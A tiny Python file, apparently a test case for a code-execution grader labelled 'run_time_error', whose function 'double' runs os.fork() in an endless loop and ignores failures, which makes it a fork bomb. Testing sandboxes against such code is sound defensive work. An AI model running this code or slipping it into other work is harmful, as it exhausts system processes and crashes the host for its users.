"""Forks without end."""
# verdicts: run_time_error

import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
